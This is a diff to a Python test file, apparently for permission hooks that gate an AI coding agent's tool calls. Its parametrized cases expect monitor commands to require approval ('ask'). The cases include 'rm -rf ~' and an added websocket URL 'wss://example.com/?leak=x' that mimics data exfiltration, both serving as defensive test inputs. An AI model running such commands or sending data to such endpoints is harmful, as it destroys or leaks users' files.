@@ -474,6 +474,8 @@ def test_claude_codes_tool_search_and_agent_listing_are_read_only(
     ({"description": "d", "timeout_ms": 1000, "command": "inotifywait -m -q src"}, "ask"),
     ({"description": "d", "timeout_ms": 1000, "command": "rm -rf ~"}, "ask"),
     ({"description": "d", "timeout_ms": 1000, "ws": {"url": "wss://example.com/feed"}}, "ask"),
+    ({"description": "d", "timeout_ms": 1000, "command": "cat README",
+      "ws": {"url": "wss://example.com/?leak=x"}}, "ask"),
 ])
 def test_claude_codes_monitor_is_a_command_as_bash_is(
         hooks: Hooks, project: Path, tool_input: dict[str, Any], expected: str) -> None:  # CC-4
